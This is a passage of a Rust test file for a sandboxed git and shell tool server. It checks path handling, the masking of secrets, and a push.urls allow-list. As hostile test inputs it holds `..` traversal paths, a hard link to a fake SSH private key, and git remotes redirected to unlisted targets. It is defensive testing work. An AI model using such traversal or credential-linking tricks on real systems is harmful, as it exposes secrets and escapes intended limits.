    let mut text = git_config(false, false, "allow");
    text.push_str(
        "\n[[builtins]]\nid = \"tools-shell\"\ngrants = [\"filesystem\", \"spawn\"]\n\
         filesystem = [{ path = \"{root}\", write = true }]\n\
         config = { trust = { external = \"allow\" } }\n",
    );
    let c = Client::start(&fx, &config_named(&fx, "both.toml", &text)).await;
    let r = c
        .ok(
            "bash",
            json!({"command": "test -e repo/.git/commondir || echo NONE; echo n > repo/n.txt"}),
        )
        .await;
    assert_eq!(r["stdout"], "NONE\n", "{r}");
    let s = c.ok("git_status", json!({"repo": "repo"})).await;
    assert_eq!(s["branch"], "main", "{s}");
    let out = c.ok("git_commit", json!({"repo": "repo", "message": "with commondir"})).await;
    assert_eq!(out["files"], json!(["n.txt"]), "{out}");
    let l = c.ok("git_log", json!({"repo": "repo", "limit": 1})).await;
    assert_eq!(l["commits"][0]["summary"], "with commondir", "{l}");
    c.ok("git_branch", json!({"repo": "repo", "name": "task/c"})).await;
    c.ok("git_worktree_add", json!({"repo": "repo", "path": "wtc", "branch": "task/w"})).await;
    assert_eq!(host_git(h, &repo, &["log", "-1", "--format=%s"]), "with commondir");
    assert!(host_git(h, &repo, &["worktree", "list"]).contains("wtc"));
    c.stop().await;
    fx.assert_canary();
}

/// SPEC §3: a git file path is relative to the repository's work tree, exactly as git_status
/// prints it, or absolute under the roots — for a repository at the root and one in a
/// subfolder, for git_diff, git_log and git_commit. Leaving the work tree, `..`, secrets and a
/// hard link to a credential stay refused in both spellings; the file that git_status printed
/// (fed back as it is) is the positive control.
#[tokio::test]
async fn paths_are_taken_as_git_prints_them_in_a_root_and_a_subfolder_repository() {
    let fx = Fixture::new();
    std::fs::create_dir_all(fx.root.join("ro")).unwrap();
    let h = &fx.home;
    let key = "-----BEGIN OPENSSH PRIVATE KEY----- canary-key-material";
    write(&h.join(".ssh/id_ed25519"), &format!("{key}\n"));
    let top = fx.root.clone();
    let sub = fx.root.join("repo");
    // The subfolder repository is not part of the root's.
    write(&top.join(".gitignore"), "repo/\nro/\n");
    init_repo(h, &top);
    init_repo(h, &sub);
    let cfg = config_named(&fx, "git.toml", &git_config(false, false, "allow"));
    let c = Client::start(&fx, &cfg).await;

    for (repo, work) in [("", &top), ("repo", &sub)] {
        let abs = |rel: &str| work.join(rel).to_str().unwrap().to_string();
        // Tracked secret and a hard link to a credential, committed through the CLI.
        cli_commit(h, work, "docs/d.txt", "d\n", "docs");
        write(&work.join(".env"), "A=1\n");
        host_git(h, work, &["add", "-f", ".env"]);
        host_git(h, work, &["commit", "-q", "-m", "env"]);
        write(&work.join(".env"), "A=hunter2\n");
        std::fs::hard_link(h.join(".ssh/id_ed25519"), work.join("linked.txt")).unwrap();
        write(&work.join("a.txt"), &numbered(5));
        write(&work.join("docs/d.txt"), "d2\n");

        // What git_status prints is what the other tools take.
        let s = c.ok("git_status", json!({"repo": repo})).await;
        let printed = paths(&s["unstaged"]);
        assert!(printed.contains(&"a.txt".to_string()), "{repo}: {s}");
        assert!(printed.contains(&"docs/d.txt".to_string()), "{repo}: {s}");
        for path in ["a.txt".to_string(), abs("a.txt")] {
            let d = c.ok("git_diff", json!({"repo": repo, "path": path})).await;
            assert_eq!(d["files_changed"], 1, "{repo} {path}: {d}");
            let p = d["patch"].as_str().unwrap();
            assert!(p.contains("+++ b/a.txt") && p.contains("+LINE5"), "{repo} {path}: {p}");
            let l = c.ok("git_log", json!({"repo": repo, "path": path})).await;
            assert_eq!(l["commits"].as_array().unwrap().len(), 1, "{repo} {path}: {l}");
            assert_eq!(l["commits"][0]["summary"], "first", "{repo} {path}: {l}");
        }
        for path in ["docs".to_string(), abs("docs"), "docs/d.txt".to_string()] {
            let d = c.ok("git_diff", json!({"repo": repo, "path": path})).await;
            assert!(d["patch"].as_str().unwrap().contains("+++ b/docs/d.txt"), "{path}: {d}");
            let l = c.ok("git_log", json!({"repo": repo, "path": path})).await;
            assert_eq!(l["commits"][0]["summary"], "docs", "{repo} {path}: {l}");
        }
        // git_diff's own output names files the same way.
        let d = c.ok("git_diff", json!({"repo": repo})).await;
        assert!(d["patch"].as_str().unwrap().contains("diff --git a/a.txt b/a.txt"), "{d}");

        // Commit: relative as printed, then absolute; results print work-tree paths.
        let a = printed.iter().find(|p| *p == "a.txt").unwrap();
        let out = c.ok("git_commit", json!({"repo": repo, "message": "rel", "paths": [a]})).await;
        assert_eq!(out["files"], json!(["a.txt"]), "{repo}: {out}");
        let out = c
            .ok("git_commit", json!({"repo": repo, "message": "abs", "paths": [abs("docs/d.txt")]}))
            .await;
        assert_eq!(out["files"], json!(["docs/d.txt"]), "{repo}: {out}");
        assert_eq!(host_git(h, work, &["show", "--name-only", "--format=", "HEAD"]), "docs/d.txt");

        // Secrets and the hard link to a credential, in both spellings: masked, never committed.
        for path in [".env".to_string(), abs(".env"), "linked.txt".to_string(), abs("linked.txt")] {
            let d = c.ok("git_diff", json!({"repo": repo, "path": path})).await;
            let p = d["patch"].as_str().unwrap();
            assert!(!p.contains("hunter2") && !p.contains("canary-key"), "{path}: {p}");
            let e =
                c.err("git_commit", json!({"repo": repo, "message": "s", "paths": [path]})).await;
            assert!(e.contains("secret or denied file"), "{repo} {path}: {e}");
        }
        assert!(!host_git(h, work, &["log", "-p", "--all"]).contains("hunter2"));

        // Leaving the work tree or the roots: `..`, absolute paths elsewhere.
        let outside_tree = if repo.is_empty() {
            fx.outside.join("canary.txt")
        } else {
            write(&fx.root.join("top-only.txt"), "t\n");
            fx.root.join("top-only.txt")
        };
        for path in [
            "../outside/canary.txt".to_string(),
            "docs/../../x".to_string(),
            outside_tree.to_str().unwrap().to_string(),
            fx.outside.join("canary.txt").to_str().unwrap().to_string(),
        ] {
            for (tool, args) in [
                ("git_diff", json!({"repo": repo, "path": path})),
                ("git_log", json!({"repo": repo, "path": path})),
                ("git_commit", json!({"repo": repo, "message": "x", "paths": [path]})),
            ] {
                let e = c.err(tool, args).await;
                let why = ["`..`", "outside the repository's work tree", "outside every root"];
                assert!(why.iter().any(|w| e.contains(w)), "{tool} {repo} {path}: {e}");
                assert!(e.len() < 400, "{tool}: a short error, not {} characters: {e}", e.len());
                assert!(e.contains("pass") || e.contains("give") || e.contains("use"), "{e}");
            }
        }
    }
    // The first root's spelling of a subfolder repository's file: refused, naming what to pass.
    write(&sub.join("a.txt"), "changed again\n");
    for (tool, args) in [
        ("git_diff", json!({"repo": "repo", "path": "repo/a.txt"})),
        ("git_log", json!({"repo": "repo", "path": "repo/a.txt"})),
        ("git_commit", json!({"repo": "repo", "message": "x", "paths": ["repo/a.txt"]})),
    ] {
        let e = c.err(tool, args).await;
        assert!(e.contains("pass `a.txt`"), "{tool}: {e}");
    }
    assert_eq!(host_git(h, &sub, &["status", "--porcelain", "a.txt"]), " M a.txt");
    c.stop().await;
    fx.assert_canary();
}

/// A bare repository at `dir` with `main` holding one commit; returns that commit.
fn bare_with_main(h: &Path, base: &Path, dir: &Path) -> String {
    host_git(h, base, &["init", "-q", "--bare", "-b", "main", dir.to_str().unwrap()]);
    let seed = base.join(format!("seed-{}", dir.file_name().unwrap().to_str().unwrap()));
    init_repo(h, &seed);
    host_git(h, &seed, &["push", "-q", dir.to_str().unwrap(), "main"]);
    std::fs::remove_dir_all(&seed).unwrap();
    ref_of(h, dir, "refs/heads/main").unwrap()
}

/// Issue 20 point 2: with `push.urls`, a push goes only to a listed remote — a listed local
/// repository outside the roots receives the branch (absolute, `file://`, relative spelling),
/// never forced — and every unlisted remote is refused and left unchanged however the
/// repository's config points at it: directly, through `..` or a symlink, in a writable root,
/// over SSH, as a `pushurl` (libgit2's local transport writes to the `url`), or from a
/// repository a command made with `git init`.
#[tokio::test]
async fn push_goes_only_to_the_urls_the_person_listed() {
    let fx = Fixture::new();
    std::fs::create_dir_all(fx.root.join("ro")).unwrap();
    let h = &fx.home;
    let base = fx.root.parent().unwrap().to_path_buf();
    let listed = base.join("listed.git");
    let unlisted = base.join("unlisted.git");
    let inroot = fx.root.join("remote.git");
    bare_with_main(h, &base, &listed);
    let canary_main = bare_with_main(h, &base, &unlisted);
    bare_with_main(h, &base, &inroot);
    let repo = fx.root.join("repo");
    init_repo(h, &repo);
    host_git(h, &repo, &["remote", "add", "origin", listed.to_str().unwrap()]);
    host_git(h, &repo, &["fetch", "-q", "origin"]);

    let mut text = git_config(true, true, "allow");
    text.push_str(&format!("urls = [\"file://{}/\"]\n", listed.display()));
    let git_only = config_named(&fx, "listed.toml", &text);
    text.push_str(
        "\n[[builtins]]\nid = \"tools-shell\"\ngrants = [\"filesystem\", \"spawn\"]\n\
         filesystem = [{ path = \"{root}\", write = true }]\n\
         config = { trust = { external = \"allow\" } }\n",
    );
    let c = Client::start(&fx, &config_named(&fx, "both.toml", &text)).await;
    let push = |branch: &str| json!({"repo": "repo", "branch": branch});
    let untouched = |why: &str| {
        let refs = host_git(h, &unlisted, &["for-each-ref", "--format=%(refname) %(objectname)"]);
        assert_eq!(refs, format!("refs/heads/main {canary_main}"), "{why}: unlisted changed");
    };

    // Positive control: the listed repository outside the roots receives the branch.
    c.ok("git_branch", json!({"repo": "repo", "name": "task/x"})).await;
    write(&repo.join("x.txt"), "x\n");
    let x1 = c.ok("git_commit", json!({"repo": "repo", "message": "x"})).await["id"]
        .as_str()
        .unwrap()
        .to_string();
    let p = c.ok("git_push", push("task/x")).await;
    assert_eq!((p["new"].as_str(), p["old"].is_null()), (Some(x1.as_str()), true), "{p}");
    assert_eq!(ref_of(h, &listed, "refs/heads/task/x").unwrap(), x1);
    assert_eq!(ref_of(h, &repo, "refs/remotes/origin/task/x").unwrap(), x1, "tracking ref");
    // The same remote spelt relative to the work tree, as git reads it.
    host_git(h, &repo, &["remote", "set-url", "origin", "../../listed.git"]);
    write(&repo.join("x.txt"), "x2\n");
    let x2 = c.ok("git_commit", json!({"repo": "repo", "message": "x2"})).await["id"]
        .as_str()
        .unwrap()
        .to_string();
    c.ok("git_push", push("task/x")).await;
    assert_eq!(ref_of(h, &listed, "refs/heads/task/x").unwrap(), x2);

    // Never forced: a non-fast-forward to the listed remote is refused.
    let other = base.join("other");
    host_git(
        h,
        &base,
        &["clone", "-q", "-b", "task/x", listed.to_str().unwrap(), other.to_str().unwrap()],
    );
    let theirs = cli_commit(h, &other, "theirs.txt", "theirs\n", "theirs");
    host_git(h, &other, &["push", "-q", "origin", "task/x"]);
    write(&repo.join("mine.txt"), "mine\n");
    c.ok("git_commit", json!({"repo": "repo", "message": "mine"})).await;
    let e = c.err("git_push", push("task/x")).await;
    assert!(e.contains("non-fast-forward"), "{e}");
    assert_eq!(ref_of(h, &listed, "refs/heads/task/x").unwrap(), theirs, "listed unchanged");

    // Unlisted, however the repository's config points there: refused, naming push.urls.
    c.ok("git_branch", json!({"repo": "repo", "name": "task/y"})).await;
    std::os::unix::fs::symlink(&unlisted, fx.root.join("link.git")).unwrap();
    let inroot_before = host_git(h, &inroot, &["for-each-ref"]);
    let dotdot = format!("{}/../unlisted.git", listed.display());
    let file_url = format!("file://{}", unlisted.display());
    let link = fx.root.join("link.git").to_str().unwrap().to_string();
    for url in [
        unlisted.to_str().unwrap(),
        &file_url,
        &dotdot,
        &link,
        inroot.to_str().unwrap(),
        "../remote.git",
        "ssh://git@127.0.0.1:9/listed.git",
        "git@127.0.0.1:listed.git",
    ] {
        host_git(h, &repo, &["remote", "set-url", "origin", url]);
        let e = c.err("git_push", push("task/y")).await;
        assert!(e.contains("push.urls does not list") && e.contains(url), "{url}: {e}");
        assert!(!e.contains("writable root"), "{e}");
        untouched(url);
    }
    assert_eq!(host_git(h, &inroot, &["for-each-ref"]), inroot_before, "in-root remote unchanged");
    // A pushurl is what a push goes to: listed pushurl, unlisted url → the listed one only;
    // the other way round → refused.
    host_git(h, &repo, &["remote", "set-url", "origin", unlisted.to_str().unwrap()]);
    host_git(h, &repo, &["config", "remote.origin.pushurl", listed.to_str().unwrap()]);
    let p = c.ok("git_push", push("task/y")).await;
    assert_eq!(ref_of(h, &listed, "refs/heads/task/y").unwrap(), p["new"].as_str().unwrap());
    untouched("listed pushurl, unlisted url");
    host_git(h, &repo, &["remote", "set-url", "origin", listed.to_str().unwrap()]);
    host_git(h, &repo, &["config", "remote.origin.pushurl", unlisted.to_str().unwrap()]);
    write(&repo.join("y.txt"), "y2\n");
    c.ok("git_commit", json!({"repo": "repo", "message": "y2"})).await;
    let e = c.err("git_push", push("task/y")).await;
    assert!(e.contains("push.urls does not list"), "{e}");
    untouched("unlisted pushurl");

    // A command cannot make a repository in a root at all (the sandbox's in-run walls refuse
    // the `.git`); one made on the host with its own config pointing anywhere: refused; its
    // neighbour pointing at the listed remote: pushed.
    let r = c.ok("bash", json!({"command": "git init -q -b main evil"})).await;
    assert_ne!(r["exit_code"], 0, "{r}");
    assert_eq!(r["denied"][0]["layer"], "sandbox (in-run walls)", "{r}");
    for (name, url) in [("evil", &unlisted), ("good", &listed)] {
        let r = fx.root.join(name);
        host_git(h, &fx.root, &["init", "-q", "-b", "main", name]);
        write(&r.join("e.txt"), "e\n");
        host_git(h, &r, &["add", "e.txt"]);
        host_git(
            h,
            &r,
            &["-c", "user.name=A", "-c", "user.email=a@example.com", "commit", "-qm", "e"],
        );
        host_git(h, &r, &["branch", &format!("task/{name}")]);
        host_git(h, &r, &["remote", "add", "origin", url.to_str().unwrap()]);
    }
    let e = c.err("git_push", json!({"repo": "evil", "branch": "task/evil"})).await;
    assert!(e.contains("push.urls does not list"), "{e}");
    untouched("a command's own repository");
    let p = c.ok("git_push", json!({"repo": "good", "branch": "task/good"})).await;
    assert_eq!(ref_of(h, &listed, "refs/heads/task/good").unwrap(), p["new"].as_str().unwrap());
    c.stop().await;

    // hands check prints the rule; hands doctor warns only while push.urls is unset.
    let out = fx.std_command(&["check", "--config", git_only.to_str().unwrap()]).output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains(&format!("push urls: only to [file://{}/]", listed.display())),
        "{stdout}"
    );
    let doctor = |cfg: &Path| {
        let o = fx.std_command(&["doctor", "--config", cfg.to_str().unwrap()]).output().unwrap();
        String::from_utf8_lossy(&o.stdout).into_owned()
    };
    assert!(!doctor(&git_only).contains("without push.urls"), "{}", doctor(&git_only));
    let unset = config_named(&fx, "unset.toml", &git_config(true, true, "allow"));
    let d = doctor(&unset);
    assert!(d.contains("push over SSH is on without push.urls"), "{d}");
    let out = fx.std_command(&["check", "--config", unset.to_str().unwrap()]).output().unwrap();
    assert!(String::from_utf8_lossy(&out.stdout).contains("push.urls unset"));
    fx.assert_canary();
}
